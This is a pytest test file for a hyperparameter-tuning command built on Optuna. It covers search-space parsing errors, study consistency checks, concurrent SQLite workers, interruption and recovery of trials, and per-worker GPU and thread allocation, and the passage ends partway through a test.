"""tune.py: search spaces and their one-line errors, studies of tiny runs (a search, a grid, a
pruned trial, Ctrl-C then continue, two workers on one SQLite file), and the verdict."""
from __future__ import annotations

import json
import os
import re
import shlex
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

import tune
from conftest import ROOT, live_processes_in_group
from core.errors import UserError
from lit_modules import MODELS
from studies import space

TINY = ["--gpus", "0", "--epochs", "2", "--batch-size", "50", "--val-size", "20"]


def dims(*words):
    cls = MODELS["vgg_bn"]
    return space.parse(words, cls.all_defaults(), cls.all_specs())


def test_search_words_become_ranges_and_choices_checked_like_set():
    lr, bs, opt, flip, nesterov, sched = dims("lr=0.02:0.5:log", "batch_size=64:512", "optimizer=sgd,adam",
                                              "aug_flip", "nesterov", "schedule")
    assert (lr.low, lr.high, lr.log, lr.kind) == (0.02, 0.5, True, float)
    assert (bs.low, bs.high, bs.log, bs.kind) == (64, 512, False, int)
    assert opt.choices == ("sgd", "adam") and flip.choices == ("random", "alternate", "none")
    assert nesterov.choices == (False, True) and sched.choices == ("warmup_linear", "onecycle", "cosine", None)  # optional: none too
    assert [d.spec() for d in (lr, opt, sched)] == ["lr=0.02:0.5:log", "optimizer=sgd,adam",
                                                          "schedule=warmup_linear,onecycle,cosine,none"]
    assert space.grid_values(dims("optimizer=sgd,adam", "schedule")) == {"optimizer": ["sgd", "adam"],
                                                                         "schedule": ["warmup_linear", "onecycle",
                                                                                      "cosine", "none"]}
    assert space.grid_size(dims("optimizer=sgd,adam", "aug_flip")) == 6


@pytest.mark.parametrize("word, message", [
    ("depth=1:3", "unknown key 'depth'"),
    ("optimizer=0:1", "optimizer is a choice key, not a number; give its values"),
    ("lr=0.5:0.1", "low 0.5 is above high 0.1"),
    ("weight_decay=0:0.01:log", "a log range needs low > 0"),
    ("optimizer=", "an empty list of values"),
    ("optimizer=sgd,rmsprop", "optimizer must be one of adam, sgd, adamw"),
    ("lr=-1:1", "lr must be greater than 0"),
    ("lr", "lr is not a choice key; give values"),
    ("lr=1:2:3", "a range is low:high or low:high:log"),
])
def test_a_bad_search_word_is_a_one_line_error(word, message):
    with pytest.raises(UserError, match=message):
        dims(word)


@pytest.mark.parametrize("argv, message", [
    (["--search", "depth=1:3"], "unknown key 'depth'"),
    (["--grid", "lr=0.1:0.2"], "a grid enumerates values"),
    (["--grid", "optimizer=sgd,adam", "--trials", "3"], "leave out --trials"),
    (["--search", "lr=0.1:0.2", "--set", "lr=0.3"], "--set lr and the search both set lr"),
    (["--search", "lr=0.1:0.2", "--seed", "3"], "--seed: tune.py sets each run's seed"),
    (["--search", "lr=0.1:0.2", "--storage", "nosuchdb://x"], "--storage nosuchdb://x: cannot open it"),
    (["--search", "lr=0.1:0.2", "--storage", "postgresql://me:secret@127.0.0.1:1/db"], "postgresql://me:\\*\\*\\*@"),
    ([], "say what to search"),
])
def test_bad_input_exits_2_with_one_line_and_no_run_folder(argv, message, tmp_path, capsys):
    try:
        code = tune.main(["--model", "lenet", "--logdir", str(tmp_path / "logs"), *TINY, *argv])
    except SystemExit as e:  # argparse's own checks
        code = e.code
    err = capsys.readouterr().err.strip().splitlines()
    assert code == 2 and len(err) == 1 and re.search(message, err[0]), err
    assert not (tmp_path / "logs" / "lenet").exists() and "secret" not in err[0]


def test_a_study_name_taken_by_another_model_or_space_is_refused(tmp_path, capsys):
    from studies import store

    url = store.default_url(tmp_path)
    store.open_study(url, "s", "lenet", ["lr=0.1:0.2"])
    with pytest.raises(UserError, match="this study exists with model lenet and search lr=0.1:0.2"):
        store.open_study(url, "s", "vgg_bn", ["lr=0.1:0.2"])
    with pytest.raises(UserError, match="use another --study name"):
        store.open_study(url, "s", "lenet", ["lr=0.1:0.3"])
    store.open_study(url, "s", "lenet", ["lr=0.1:0.2"])  # the same search: continued


def test_two_commands_creating_one_study_with_other_searches_at_once_are_not_both_let_through(tmp_path, monkeypatch):
    """Both saw a new study without attributes and wrote their own: the one written over must not run
    its trials into the other's study (it did: the check compared only what was read before writing)."""
    import optuna

    from studies import store

    url, real = store.default_url(tmp_path), optuna.study.Study.set_user_attr

    def and_the_other_command_too(study, key, value):  # the other command's writes land after ours
        real(study, key, value)
        if key == "flags":
            real(study, "space", ["lr=0.1:0.3"])
    monkeypatch.setattr(optuna.study.Study, "set_user_attr", and_the_other_command_too)
    with pytest.raises(UserError, match="this study exists with model lenet and search lr=0.1:0.3"):
        store.open_study(url, "s", "lenet", ["lr=0.1:0.2"])


def test_a_study_continued_with_other_epochs_data_or_seeds_is_refused_and_the_same_ones_go_on(tmp_path, capsys):
    """Trials measured over other epochs or seeds cannot be ranked together; where the data lives
    (--data-dir) and how it is computed (--gpus) may differ."""
    from studies import store

    logdir = tmp_path / "logs"
    first = ["--model", "lenet", "--search", "lr=0.001:0.01", "--logdir", str(logdir), "--gpus", "0", "--epochs", "2"]
    args, rest = tune.parse_args(first)
    *_, measured = tune._plan(args, rest)
    store.open_study(store.default_url(logdir), "lenet-search", "lenet", ["lr=0.001:0.01"], flags=rest, measured=measured)
    for change, was, asked in ((["--epochs", "3"], "epochs=2", "epochs=3"),
                               (["--seeds", "0", "1"], "seeds=[0]", "seeds=[0, 1]"),
                               (["--set", "label_smoothing=0.1"], "label_smoothing=0.0", "label_smoothing=0.1"),
                               (["--val-size", "20"], "val_size=5000", "val_size=20")):
        assert tune.main(first + change + ["--trials", "1"]) == 2
        assert capsys.readouterr().err.strip().splitlines() == [
            f"tune.py: error: --study lenet-search: its trials ran with {was}, this command asks {asked}; continue it "
            f"with its own train.py flags (--logdir {logdir} --gpus 0 --epochs 2) and --seeds, or use another "
            f"--study name"]
    assert not (logdir / "lenet").exists()  # nothing was trained
    args, rest = tune.parse_args(first + ["--data-dir", str(tmp_path / "elsewhere"), "--gpus", "1", "--search", "lr=0.001:0.01"])
    *_, measured = tune._plan(args, rest)
    store.open_study(store.default_url(logdir), "lenet-search", "lenet", ["lr=0.001:0.01"], flags=rest, measured=measured)
    store.open_study(store.default_url(logdir), "s2", "lenet", ["lr=0.001:0.01"], measured={**measured, "seeds": [0, 1]})
    args, rest = tune.parse_args(first + ["--seeds", "1", "0"])  # the same seeds in another order: the same mean
    *_, measured = tune._plan(args, rest)
    store.open_study(store.default_url(logdir), "s2", "lenet", ["lr=0.001:0.01"], flags=rest, measured=measured)


def test_two_commands_creating_one_study_at_once_write_its_attributes_one_after_the_other(tmp_path, monkeypatch):
    """Both saw a new study without attributes: without a lock their writes interleaved, and the study
    could keep one command's flags with the other's measured settings."""
    import threading

    import optuna

    from studies import store

    url, real = store.default_url(tmp_path), optuna.study.Study.set_user_attr
    writers, other_started = [], threading.Event()

    def slow_write(study, key, value):
        writers.append(threading.current_thread().name)
        if len(set(writers)) > 1:
            other_started.set()
        other_started.wait(1)  # give the other command every chance to write in between
        real(study, key, value)
    monkeypatch.setattr(optuna.study.Study, "set_user_attr", slow_write)
    errors = []

    def command(epochs):
        try:
            store.open_study(url, "s", "lenet", ["lr=0.1:0.2"], flags=["--epochs", str(epochs)],
                             measured={"epochs": epochs})
        except UserError as e:
            errors.append(str(e))
    threads = [threading.Thread(target=command, args=(e,), name=f"epochs{e}") for e in (2, 3)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(set(writers)) == 1, writers  # one command wrote every attribute; the other read them
    attrs = store.load(url, "s").user_attrs
    assert attrs["flags"] == ["--epochs", str(attrs["measured"]["epochs"])]
    assert len(errors) == 1 and "its trials ran with epochs=" in errors[0]


def test_welch_interval_by_hand():
    from studies.verdict import welch

    # means 0.81 and 0.71; each variance 0.0002 over n=2: se = sqrt(0.0002); df = 2; t(0.975, 2) = 4.302653
    v = welch([0.80, 0.82], [0.70, 0.72])
    assert v.diff == pytest.approx(0.10) and v.df == pytest.approx(2.0)
    assert (v.low, v.high) == (pytest.approx(0.10 - 4.302653 * 0.0141421, abs=1e-6),
                               pytest.approx(0.10 + 4.302653 * 0.0141421, abs=1e-6))
    assert v.text() == "+10.00 pts [+3.92, +16.08]" and not v.noise
    close = welch([0.80, 0.84], [0.79, 0.81])
    assert close.noise and close.text().endswith("within seed noise") and close.low < 0 < close.high
    assert welch([0.8], [0.7, 0.72]) is None  # one seed: no interval


def test_the_table_gives_each_group_its_verdict_against_the_defaults(tmp_path, capsys):
    import visualize
    from test_visualize import write_run

    accs = {("defaults", 0): 0.70, ("defaults", 1): 0.72, ("lr", 0): 0.80, ("lr", 1): 0.82,
            ("wd", 0): 0.71, ("wd", 1): 0.73}
    for (name, seed), acc in accs.items():
        changes = {} if name == "defaults" else {name: 1}
        final = {"epoch": 2, "val_acc": acc, "test_acc": acc}
        write_run(tmp_path / f"{name}{seed}", seed=seed, changes=changes, final=final,
                  recipe={"model": changes})
    assert visualize.main(["table", *(str(tmp_path / f"{n}{s}") for n, s in accs)]) == 0
    rows = capsys.readouterr().out.strip().splitlines()
    assert rows[0].endswith("| test acc vs reference (95% CI) |")
    assert rows[2].endswith("| reference |") and "defaults" in rows[2]
    assert rows[3].endswith("| +10.00 pts [+3.92, +16.08] |") and "lr=1" in rows[3]
    assert rows[4].endswith("within seed noise |") and "wd=1" in rows[4]


@pytest.mark.slow
def test_a_search_a_grid_and_the_study_view(folder_data, tmp_path, capsys):
    import visualize
    from studies import store

    logdir = tmp_path / "logs"
    common = ["--model", "lenet", "--data-dir", str(folder_data), "--logdir", str(logdir), *TINY]
    assert tune.main([*common, "--search", "lr=0.0005:0.005:log", "optimizer", "--trials", "4", "--prune", "none"]) == 0
    study = store.load(store.default_url(logdir), "lenet-search")
    assert [t.number for t in study.trials] == [0, 1, 2, 3] and all(t.state.name == "COMPLETE" for t in study.trials)
    for t in study.trials:  # each trial is an ordinary run folder that knows its trial
        m = json.loads((logdir / t.user_attrs["run_dir_seed0"] / "metrics.json").read_text())
        assert m["study"] == {"name": "lenet-search", "trial": t.number, "seed": 0, "state": "complete"}
        assert m["final"]["val_acc"] == pytest.approx(t.value)
        assert f"lr={t.params['lr']}" in m["command"] and m["hparams"]["optimizer"] == t.params["optimizer"]
    from tensorboard.backend.event_processing.event_accumulator import EventAccumulator
    from tensorboard.plugins.hparams import plugin_data_pb2

    events = EventAccumulator(str(logdir / study.trials[1].user_attrs["run_dir_seed0"])).Reload()
    start = plugin_data_pb2.HParamsPluginData.FromString(
        events.SummaryMetadata("_hparams_/session_start_info").plugin_data.content).session_start_info
    assert (start.hparams["Study"].string_value, start.hparams["Trial"].number_value,
            start.hparams["State"].string_value) == ("lenet-search", 1, "complete")  # TensorBoard's HParams too
    out = capsys.readouterr().out
    best = max(study.trials, key=lambda t: t.value)
    best_run = json.loads((logdir / best.user_attrs["run_dir_seed0"] / "metrics.json").read_text())
    assert "4 of 4 trials to run" in out
    repeat = next(ln for ln in out.splitlines() if ln.startswith("repeat it: ")).removeprefix("repeat it: ")
    rebuilt, recorded = (vars(tune.parse_train(shlex.split(c)[2:])) for c in (repeat, best_run["command"]))
    assert rebuilt == {**recorded, "seed": 0}  # the trial's own settings, rebuilt from checked values
    assert f"| `lenet/{best.user_attrs['run_dir_seed0'].split('/')[-1]}` |" in out

    assert tune.main([*common, "--grid", "optimizer=sgd,adam", "aug_flip=none", "--seeds", "0", "1", "--confirm", "1"]) == 0
    grid = store.load(store.default_url(logdir), "lenet-grid")
    confirm = [json.loads((d / "metrics.json").read_text()) for d in sorted((logdir / "lenet").iterdir())]
    confirm = [m for m in confirm if m["seed"] == 2]  # --confirm's fresh seed, after the grid's 0 and 1
    assert len(confirm) == 2 and not any("study" in m for m in confirm)  # plain runs, of no trial
    out = capsys.readouterr().out
    for label, m in zip(("best trial", "defaults"), confirm):
        assert f"  {label}: {100 * m['final']['test_acc']:.2f}% (" in out  # each read from its own run's record
    combos = sorted((t.params["optimizer"], t.params["aug_flip"]) for t in grid.trials)
    assert combos == [("adam", "none"), ("sgd", "none")]  # each combination once
    for t in grid.trials:  # the objective: the mean over both seeds' best-checkpoint val accuracy
        accs = [json.loads((logdir / t.user_attrs[f"run_dir_seed{s}"] / "metrics.json").read_text())["final"]["val_acc"]
                for s in (0, 1)]
        assert t.user_attrs["val_accs"] == accs and t.value == pytest.approx(sum(accs) / 2)

    assert visualize.main(["study", str(logdir), "--study", "lenet-grid", "--out", str(tmp_path / "fig")]) == 0
    out = capsys.readouterr().out
    assert "| trial | aug_flip | optimizer | val acc (mean over seeds) | seeds | state | run folders | vs best (95% CI) |" in out
    assert "(best)" in out and " best |" in out
    assert (tmp_path / "fig" / "lenet-grid_history.png").stat().st_size > 1000
    assert (tmp_path / "fig" / "lenet-grid_importances.png").stat().st_size > 1000
    assert visualize.main(["study", str(logdir)]) == 2  # two studies: which one?
    out = capsys.readouterr().out
    report = tmp_path / "report"
    assert visualize.main(["report", str(logdir), "--out", str(report)]) == 0
    text = (report / "report.md").read_text()
    assert "## Hyperparameter studies (`tune.py`)" in text and "### lenet-grid" in text and "### lenet-search" in text
    assert "(figures/lenet-grid_history.png)" in text and (report / "figures" / "lenet-grid_importances.png").is_file()


@pytest.mark.slow
def test_a_hopeless_trial_is_pruned_and_its_run_folder_says_so(folder_data, tmp_path):
    from studies import store

    logdir = tmp_path / "logs"
    # Two good learning rates first (the median pruner waits for 2 trials), then one that cannot
    # learn: after its first epoch its val accuracy is below the median of the first two there.
    # The grid's order follows the sampler's seed (--seeds' first): 3 puts lr=1e-7 last.
    assert tune.main(["--model", "lenet", "--data-dir", str(folder_data), "--logdir", str(logdir), *TINY,
                      "--epochs", "3", "--batch-size", "10", "--seeds", "3", "--grid", "lr=0.003,0.002,0.0000001"]) == 0
    study = store.load(store.default_url(logdir), "lenet-grid")
    assert [t.params["lr"] for t in study.trials][-1] == 1e-07
    study = store.load(store.default_url(logdir), "lenet-grid")
    states = {t.params["lr"]: t.state.name for t in study.trials}
    assert states[1e-07] == "PRUNED", states
    pruned = next(t for t in study.trials if t.state.name == "PRUNED")
    m = json.loads((logdir / pruned.user_attrs["run_dir_seed3"] / "metrics.json").read_text())
    assert m["study"]["state"].startswith("pruned after epoch") and len(m["epochs"]) < 3


def _tune(folder_data, logdir, *extra):
    return [sys.executable, str(ROOT / "tune.py"), "--model", "lenet", "--data-dir", str(folder_data),
            "--logdir", str(logdir), *TINY, "--search", "lr=0.0005:0.005:log", *extra]


@pytest.mark.slow
def test_ctrl_c_fails_the_running_trial_and_the_same_command_continues(folder_data, tmp_path, capsys):
    from studies import store

    logdir = tmp_path / "logs"
    argv = _tune(folder_data, logdir, "--trials", "1", "--prune", "none", "--epochs", "20")
    proc = subprocess.Popen(argv, cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
                            start_new_session=True)
    deadline = time.time() + 120
    while not list(logdir.glob("lenet/version_0/checkpoints/last.ckpt")) and time.time() < deadline:
        time.sleep(0.2)
    os.killpg(proc.pid, signal.SIGINT)  # Ctrl-C reaches the whole process group, as in a terminal
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == 130 and "The same command continues the study (1 fail)." in err, err
    study = store.load(store.default_url(logdir), "lenet-search")
    assert [t.state.name for t in study.trials] == ["FAIL"]
    m = json.loads((logdir / "lenet" / "version_0" / "metrics.json").read_text())
    assert m["study"]["state"] == "failed (stopped)"

    # The same command again (here in this process: the trials' runs are child processes all the same);
    # with other --epochs it would be refused: its trials would not be comparable with trial 0.
    assert tune.main(argv[2:]) == 0
    out = capsys.readouterr().out
    assert "study lenet-search" in out and "1 fail; 1 of 1 trials to run" in out
    study = store.load(store.default_url(logdir), "lenet-search")
    assert [t.state.name for t in study.trials] == ["FAIL", "COMPLETE"]
    assert len({t.params["lr"] for t in study.trials}) == 2  # the continued study drew anew, not trial 0 again


@pytest.mark.slow
def test_three_workers_share_one_sqlite_study_each_trial_once(folder_data, tmp_path, monkeypatch):
    from studies import store

    monkeypatch.delenv("OMP_NUM_THREADS", raising=False)
    logdir = tmp_path / "logs"
    assert tune.main(_tune(folder_data, logdir, "--trials", "3", "--workers", "3", "--prune", "none")[2:]) == 0
    study = store.load(store.default_url(logdir), "lenet-search")
    assert sorted(t.number for t in study.trials) == [0, 1, 2]  # three at once, each number once
    assert all(t.state.name == "COMPLETE" for t in study.trials)
    assert len({t.params["lr"] for t in study.trials}) == 3  # each worker's trial its own draw
    folders = [t.user_attrs["run_dir_seed0"] for t in study.trials]
    assert len(set(folders)) == 3 and sorted(p.name for p in (logdir / "lenet").iterdir()) == [f"version_{i}" for i in range(3)]
    # On the CPU each run has its third of the cores, not all of them as one run alone would (the runs are
    # forked from a server that imported torch before any run's environment existed).
    threads = {json.loads((logdir / f / "metrics.json").read_text())["device"].rsplit(", ", 1)[1] for f in folders}
    assert threads == {f"{max(1, os.cpu_count() // 3)} threads)"}


def test_a_trial_that_train_py_refuses_stops_the_study_at_once(tmp_path):
    """Bad input fails every trial alike: one failed trial, exit 2, not twenty."""
    from studies import store

    argv = [sys.executable, str(ROOT / "tune.py"), "--model", "lenet", "--logdir", str(tmp_path / "logs"), *TINY,
            "--data-dir", str(tmp_path / "missing"), "--search", "lr=0.001:0.01", "--trials", "5"]
    done = subprocess.run(argv, cwd=ROOT, capture_output=True, text=True, timeout=120,
                          env=dict(os.environ, CIFAR_LIGHTNING_NO_DOWNLOAD="1"))
    err = done.stderr.strip().splitlines()
    assert done.returncode == 2 and err[-1].startswith("tune.py: error: trial 0: train.py refused its input")
    assert err[-2].startswith("train.py: error: ")  # the child's own one line says what is wrong
    study = store.load(store.default_url(tmp_path / "logs"), None)
    assert [t.state.name for t in study.trials] == ["FAIL"] and not (tmp_path / "logs" / "lenet").exists()


@pytest.mark.parametrize("gpus_flag, pinned", [(None, ["0", "1", "0"]), (1, ["0", "1", "0"]), (0, [None] * 3)])
def test_each_worker_gets_its_own_gpu_unless_the_runs_are_told_the_cpu(gpus_flag, pinned, monkeypatch):
    """Each worker thread's runs, started as tune.py starts them (studies/trial.run_seed), see their GPU."""
    import threading

    import torch

    from studies import trial, workers

    started, lock = {}, threading.Lock()

    class Run:
        def __init__(self, argv, env):
            with lock:
                started[threading.current_thread().name] = env.get("CUDA_VISIBLE_DEVICES")

        def wait(self):
            return 1
    monkeypatch.setattr(torch.cuda, "device_count", lambda: 2)
    monkeypatch.setattr(trial, "start_train", Run)
    workers.run_workers(3, 6, gpus_flag, lambda share, env: trial.run_seed(["--model", "lenet"], 0, None, env))
    assert [started[f"worker-{i}"] for i in range(3)] == pinned


@pytest.mark.parametrize("parent, code", [("os.getppid()", 0), ("os.getppid() + 100000", -15)])
def test_a_run_whose_parent_is_already_gone_stops_at_once(parent, code):
    """PR_SET_PDEATHSIG covers only a parent dying after the ask: a fork server or run whose parent
    died first (here: told another pid) is stopped there and then, not left to train for nobody."""
    script = f"import os, time; from studies import launch; launch.die_with_parent({parent}); time.sleep(0.2)"
    assert subprocess.run([sys.executable, "-c", script], cwd=ROOT, timeout=30).returncode == code


def test_a_signal_to_the_workers_goes_on_only_once_every_worker_has_ended(monkeypatch):
    """Ctrl-C while the workers wait: every run is stopped, and the KeyboardInterrupt leaves run_workers
    only after each worker has finished failing its trial (here: half a second after the stop).
    Thread.join would have let it go at once: interrupted, it marks a live thread as ended."""
    import signal
    import threading
    import time

    from studies import launch, workers

    stopped, cleaned = threading.Event(), []
    monkeypatch.setattr(launch, "warm", lambda: None)
    monkeypatch.setattr(launch, "stop_all", stopped.set)

    def work(share, env):
        stopped.wait(10)  # the trial's run, until it is stopped
        time.sleep(0.5)  # then the trial is failed in the study
        cleaned.append(threading.current_thread().name)
        raise KeyboardInterrupt

    threading.Timer(0.3, signal.pthread_kill, (threading.main_thread().ident, signal.SIGINT)).start()
    with pytest.raises(KeyboardInterrupt):
        workers.run_workers(2, 2, 0, work)
    assert sorted(cleaned) == ["worker-0", "worker-1"]


@pytest.mark.parametrize("workers, preset, threads", [(4, None, "4"), (3, None, "5"), (32, None, "1"), (1, None, None),
                                                     (4, "16", None)])
def test_workers_on_the_cpu_share_its_cores_unless_the_thread_count_is_set(workers, preset, threads, monkeypatch):
    from studies import workers as w

    monkeypatch.setattr(w.os, "cpu_count", lambda: 16)
    monkeypatch.delenv("OMP_NUM_THREADS", raising=False)
    if preset:
        monkeypatch.setenv("OMP_NUM_THREADS", preset)
    assert [env.get("OMP_NUM_THREADS") for env in w.worker_envs(workers, 0)] == [threads] * workers


def test_every_trial_draws_its_own_parameters_whichever_process_and_however_continued(tmp_path):
    """Two processes' study handles on one database, both seeded alike, then a third one continuing:
    no two trials draw the same values; a fresh study with the same seed draws the same again."""
    from studies import store

    url = f"sqlite:///{tmp_path / 'o.db'}"
    space = ["lr=0.0001:0.1:log"]
    first, second = (store.open_study(url, "s", "lenet", space, seed=0) for _ in range(2))

    def objective(trial):
        return trial.suggest_float("lr", 1e-4, 0.1, log=True)
    for _ in range(2):
        first.optimize(objective, n_trials=1)
        second.optimize(objective, n_trials=1)
    store.open_study(url, "s", "lenet", space, seed=0).optimize(objective, n_trials=2)  # the same command again
    lrs = [t.params["lr"] for t in store.load(url, "s").trials]
    assert len(lrs) == 6 and len(set(lrs)) == 6
    again = store.open_study(f"sqlite:///{tmp_path / 'p.db'}", "s", "lenet", space, seed=0)
    again.optimize(objective, n_trials=2)
    assert [t.params["lr"] for t in again.trials] == lrs[:2]  # repeatable: the same seed, the same draws


def _grid_study(tmp_path, name="g", seed=0):
    from studies import store

    return store.open_study(store.default_url(tmp_path), name, "lenet", ["optimizer=sgd,adam,adamw"],
                            grid={"optimizer": ["sgd", "adam", "adamw"]}, seed=seed)


def _points(study) -> list:
    return sorted(t.params["optimizer"] for t in study.trials if t.state.name == "COMPLETE")


def test_a_grid_continued_after_a_failure_runs_the_failed_point_not_another_twice(tmp_path):
    """Optuna's GridSampler counts a failed trial's point as visited: a grid continued after one failure
    ran another point twice and never the failed one (4 seeds in 10 by hand). Every seed here, and a
    second command with another seed (another shuffle) continuing the same study."""
    def objective(trial):
        value = trial.suggest_categorical("optimizer", ["sgd", "adam", "adamw"])
        if trial.number == 1:
            raise RuntimeError("stopped")
        return len(value)

    for seed in range(10):
        study = _grid_study(tmp_path, f"g{seed}", seed)
        study.optimize(objective, n_trials=3, catch=(RuntimeError,))
        again = _grid_study(tmp_path, f"g{seed}", seed + 1)  # the same command again, told another --seeds
        while len(_points(again)) < 3:
            again.optimize(objective, n_trials=1)
        assert _points(again) == ["adam", "adamw", "sgd"], (seed, [(t.state.name, t.params) for t in again.trials])


def test_a_grid_point_recovered_from_a_finished_run_is_not_run_again(tmp_path):
    """The recovered trial has the point's values but no grid id, and its failed original no longer
    takes the point: the point is known by its values (green on Optuna's own sampler too, which
    counts the failed original as visited; red when studies/samplers.py reads only its own attribute)."""
    import optuna

    def lost(trial):  # its run finished, but its command lost the database (studies/recover.py)
        trial.suggest_categorical("optimizer", ["sgd", "adam", "adamw"])
        raise RuntimeError("lost")

    study = _grid_study(tmp_path)
    study.optimize(lost, n_trials=1, catch=(RuntimeError,))
    point = study.trials[0].params
    study.add_trial(optuna.trial.create_trial(params=point, value=0.5, user_attrs={"recovered_from": 0},
                                              distributions={"optimizer": optuna.distributions.CategoricalDistribution(
                                                  ["sgd", "adam", "adamw"])}))
    study.optimize(lambda t: len(t.suggest_categorical("optimizer", ["sgd", "adam", "adamw"])), n_trials=2)
    assert _points(study) == ["adam", "adamw", "sgd"]


def test_grid_workers_asking_at_once_take_distinct_points(tmp_path):
    """After failures (so Optuna's choice, not the trial number, picks the point), four threads asking at
    the same moment: four points (Optuna's own picks at random among the left, which repeats)."""
    import threading

    from studies import store

    url = store.default_url(tmp_path)
    grid = {"optimizer": ["sgd", "adam", "adamw", "lamb"]}
    study = store.open_study(url, "g", "lenet", ["optimizer=sgd,adam,adamw,lamb"], grid=grid, seed=0)
    def failed(trial):
        trial.suggest_categorical("optimizer", grid["optimizer"])
        raise RuntimeError("stopped")
    study.optimize(failed, n_trials=4, catch=(RuntimeError,))
    barrier = threading.Barrier(4)

    def worker():
        own = store.open_study(url, "g", "lenet", ["optimizer=sgd,adam,adamw,lamb"], grid=grid, seed=0)
        barrier.wait()
        own.optimize(lambda t: (time.sleep(0.3), len(t.suggest_categorical("optimizer", grid["optimizer"])))[1],
                     n_trials=1)
    threads = [threading.Thread(target=worker) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert _points(store.load(url, "g")) == ["adam", "adamw", "lamb", "sgd"]


def _a_trial_with_a_finished_run(tmp_path, running: bool):
    """A study on SQLite whose trial 0 (lr=0.005) is failed, or running, and whose run finished."""
    import optuna

    from core import run_folder
    from studies import store

    url = store.default_url(tmp_path)
    study = store.open_study(url, "s", "lenet", ["lr=0.001:0.01"])
    run = tmp_path / "lenet" / "version_0"
    run.mkdir(parents=True)
    run_folder.write_record(run, {"command": "python train.py", "epochs": [], "status": "finished",
                                  "final": {"val_acc": 0.5}, "study": {"trial": 0}})
    attrs = {store.RUN_DIR_ATTR.format(seed=0): str(run)}
    if running:
        trial = study.ask({"lr": optuna.distributions.FloatDistribution(0.001, 0.01, log=True)})
        trial.set_user_attr(*next(iter(attrs.items())))
    else:
        study.add_trial(optuna.trial.create_trial(
            state=optuna.trial.TrialState.FAIL, params={"lr": 0.005}, user_attrs=attrs,
            distributions={"lr": optuna.distributions.FloatDistribution(0.001, 0.01, log=True)}))
    return url, study


def test_commands_recovering_a_finished_run_at_once_add_it_to_the_study_once(tmp_path):
    """Four commands continuing a study at the same moment, each recovering the failed trial whose run
    finished: one trial comes of it (each read it as not yet recovered and added it: a repeated trial)."""
    from studies import store

    url, _ = _a_trial_with_a_finished_run(tmp_path, running=False)
    start = time.time() + 3
    code = (f"import time; from studies import recover, store\nstudy = store.load({url!r}, 's')\n"
            f"time.sleep(max(0, {start} - time.time()))\nprint(recover.recover(study, [0], {url!r}))")
    procs = [subprocess.Popen([sys.executable, "-c", code], cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                              text=True) for _ in range(4)]
    outs = sorted(p.communicate(timeout=90)[0].strip() for p in procs)
    assert outs == ["[0]", "[]", "[]", "[]"], outs
    assert [t.user_attrs.get("recovered_from") for t in store.load(url, "s").trials] == [None, 0]


def test_a_running_trial_is_recovered_only_once_its_command_is_gone(tmp_path):
    """A trial still running whose run finished: its command may be about to tell the study (a second
    command recovering it then failed it under the first). Recovered once that command's pid is gone,
    where that pid is one of this machine's (not another container's with the same host name)."""
    from studies import recover, store
    from studies.launch import machine

    url, study = _a_trial_with_a_finished_run(tmp_path, running=True)
    trial_id = study.trials[0]._trial_id
    study._storage.set_trial_system_attr(trial_id, store.OWNER, {**machine(), "pid": os.getpid()})
    assert recover.recover(store.load(url, "s"), [0], url) == []  # this process, alive
    assert study.trials[0].state.name == "RUNNING"
    gone = subprocess.Popen([sys.executable, "-c", "pass"])
    gone.wait()
    # A container on this host with the host's name: its pids are not ours, its command may well live.
    study._storage.set_trial_system_attr(trial_id, store.OWNER, {**machine(), "pid_namespace": "pid:[1]",
                                                                 "pid": gone.pid})
    assert recover.recover(store.load(url, "s"), [0], url) == []  # left to Optuna's heartbeat
    study._storage.set_trial_system_attr(trial_id, store.OWNER, {**machine(), "pid": gone.pid})
    assert recover.recover(store.load(url, "s"), [0], url) == [0]
    trials = store.load(url, "s").trials
    assert [t.state.name for t in trials] == ["FAIL", "COMPLETE"] and trials[1].value == 0.5


def test_a_killed_commands_hand_off_files_are_removed_by_the_next_run(tmp_path, monkeypatch):
    """A run's hand-off file (its folder's name, from train.py to tune.py) is removed by tune.py when
    the run ends; kill -9 of tune.py left it in /tmp for good. The next run removes those of dead commands."""
    import tempfile

    from studies import trial

    class Finished:
        def wait(self):
            return 0

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    monkeypatch.setattr(trial, "start_train", lambda argv, env: Finished())
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    theirs = [tmp_path / f"run_dir_{dead.pid}-k9x_2.txt", tmp_path / f"run_dir_{os.getpid()}-live.txt",
              tmp_path / "run_dir_abc.txt"]  # a killed command's, a live command's, not one of ours
    for path in theirs:
        path.write_text("/logs/lenet/version_0")
    assert trial.run_seed(["--model", "lenet"], 0) == (0, None, None)
    assert sorted(tmp_path.iterdir()) == sorted(theirs[1:])


def test_the_study_lock_is_a_file_beside_a_sqlite_database_and_none_for_an_in_memory_one(tmp_path, monkeypatch):
    from studies.exclusive import one_at_a_time

    monkeypatch.chdir(tmp_path)
    with one_at_a_time("sqlite:///:memory:"), one_at_a_time("sqlite:///o.db"):
        pass
    assert sorted(p.name for p in tmp_path.iterdir()) == ["o.db.lock"]  # no ':memory:.lock' in the working folder


def test_commands_started_together_on_a_new_database_all_open_it(tmp_path):
    """Optuna creates a new database's tables without a lock: of six processes opening one new SQLite
    file at the same moment, all but one often failed ('table studies already exists', a duplicate
    alembic_version row: in 10 rounds of 10 by hand on 2 cores). Each now opens it once the tables
    exist. Four new files, opened together by the six at 0.8-s steps."""
    urls = [f"sqlite:///{tmp_path / f'optuna{k}.db'}" for k in range(4)]
    start = time.time() + 3  # every process imported Optuna by then
    code = (f"import time; from studies import store\nfor k, url in enumerate({urls!r}):\n"
            f"    time.sleep(max(0, {start} + 0.8 * k - time.time()))\n    store.storage(url); print('opened', k)")
    procs = [subprocess.Popen([sys.executable, "-c", code], cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                              text=True) for _ in range(6)]
    outs = [p.communicate(timeout=90)[0] for p in procs]
    assert all(p.returncode == 0 and o.split() == "opened 0 opened 1 opened 2 opened 3".split()
               for p, o in zip(procs, outs)), outs


def test_two_commands_at_once_share_the_studys_total(tmp_path):
    import threading

    from studies import store

    url = f"sqlite:///{tmp_path / 'o.db'}"
